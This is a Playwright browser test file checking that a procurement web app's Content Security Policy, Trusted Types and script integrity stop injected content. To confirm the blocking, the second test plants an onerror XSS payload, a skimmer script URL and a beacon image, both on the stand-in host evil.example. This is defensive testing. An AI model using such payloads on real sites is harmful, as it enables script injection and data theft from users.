/** The policy of the pages in a real browser: every screen lives under it, and what it forbids is stopped and reported. */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { noBrowser, openBrowser, webDir } from './support/browser.ts';
import { billed, castOf, mail, productOf } from './support/purchase.ts';
import { type Client, startWorld, type World } from './support/world.ts';

const SHOP = 'pena-lintas-kota';
if (noBrowser) console.log(noBrowser);

declare global {
  var stopped: string[] | undefined;
}

describe('the policy of the pages in a browser', { skip: noBrowser, timeout: 240_000 }, () => {
  let world: World;
  let browser: Browser;
  before(async () => {
    world = await startWorld({ webDir });
    browser = await openBrowser();
  });
  after(async () => {
    await browser?.close();
    await world?.close();
  });

  /** A browser of one person, that keeps what the policy stops. */
  async function opened(client: Client): Promise<BrowserContext> {
    const context = await browser.newContext({ locale: 'id-ID' });
    const [name = '', value = ''] = client.cookie.split('=');
    await context.addCookies([{ name, value, url: world.url }]);
    await context.addInitScript(() => {
      globalThis.stopped = [];
      // Typed loosely: the test's own types have no page.
      const page = globalThis as unknown as EventTarget;
      page.addEventListener('securitypolicyviolation', (event: Event) =>
        globalThis.stopped?.push(`${Reflect.get(event, 'effectiveDirective')} ${Reflect.get(event, 'blockedURI')}`),
      );
    });
    return context;
  }

  async function look(page: Page, path: string): Promise<string[]> {
    const complaints: string[] = [];
    const keep = (text: string) => complaints.push(`${path}: ${text}`);
    page.on('console', (message) => {
      if (/Content Security|Trusted ?Type|Permissions.Policy|integrity|COEP|Cross-Origin/i.test(message.text()))
        keep(message.text());
    });
    page.on('pageerror', (error) => keep(error.message));
    await page.goto(`${world.url}${path}`, { waitUntil: 'networkidle' });
    await page.getByRole('main').first().waitFor();
    const stopped = (await page.evaluate('globalThis.stopped')) as string[];
    return [...complaints, ...stopped.map((one) => `${path}: ${one}`)];
  }

  it('stops nothing on any main screen, of the office, of the shop, signed in or not', async () => {
    const cast = await castOf(world);
    const order = await billed(world, cast, { rail: 'CMS', vendorSlug: SHOP });
    const vendor = await cast.vendor(SHOP);
    const { product } = productOf(SHOP);
    const nobody = { cookie: 'none=0' } as Client;
    const visits: readonly [Client, readonly string[]][] = [
      [nobody, ['/', '/masuk', '/katalog', '/kit', `/produk/${product.slug}`, `/toko/${SHOP}`]],
      [
        cast.pemesan,
        ['/tugas', '/keranjang', '/pesanan', `/pesanan/${order.id}`, '/bandingkan', '/data-saya', '/keamanan'],
      ],
      [cast.ppk, ['/tugas', `/pesanan/${order.id}`, '/anggaran', '/negosiasi', '/bayar', '/kartu']],
      [cast.bendahara, ['/tugas', '/bayar', `/pesanan/${order.id}`]],
      [vendor, ['/tugas', '/kiriman', '/bast', '/uang', `/pesanan/${order.id}`]],
    ];
    const faults: string[] = [];
    let screens = 0;
    for (const [client, paths] of visits) {
      const context = await opened(client);
      for (const path of paths) {
        const page = await context.newPage();
        faults.push(...(await look(page, path)));
        screens += 1;
        await page.close();
      }
      await context.close();
    }
    console.log(`${screens} screens, ${faults.length} stopped or complained of`);
    assert.deepEqual(faults, []);
  });

  it('stops what is planted: code within the page, text as markup, another site (the control)', async () => {
    const context = await opened(await world.signIn(mail.pemesan));
    const page = await context.newPage();
    assert.deepEqual(await look(page, '/tugas'), []);
    await page.evaluate(() => {
      // Typed loosely: the test's own types have no page.
      const { document } = globalThis as unknown as { document: Record<string, CallableFunction> & { body: object } };
      const script = document.createElement?.('script');
      const attempts = [
        () => Reflect.set(document.createElement?.('div'), 'innerHTML', '<img src=x onerror=alert(1)>'),
        () => Reflect.set(script, 'src', 'https://evil.example/skim.js'),
        () => {
          const image = document.createElement?.('img');
          image.src = 'https://evil.example/beacon';
        },
      ];
      for (const attempt of attempts) {
        try {
          attempt();
        } catch {
          // Stopped before it began.
        }
      }
    });
    await page.waitForFunction('globalThis.stopped.length >= 3');
    const stopped = ((await page.evaluate('globalThis.stopped')) as string[]).sort();
    assert.match(stopped.join('\n'), /img-src https:\/\/evil\.example/);
    assert.equal(stopped.filter((one) => one.startsWith('require-trusted-types-for')).length, 2);
    await context.close();
  });

  it('does not run a script that is not what the page says it is', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    const said: string[] = [];
    page.on('console', (message) => said.push(message.text()));
    await page.route('**/assets/index-*.js', async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: `globalThis.planted = 1;${await response.text()}` });
    });
    await page.goto(`${world.url}/`, { waitUntil: 'networkidle' });
    assert.equal(await page.evaluate('globalThis.planted'), undefined);
    assert.match(said.join('\n'), /integrity/i);
    await context.close();
  });
});
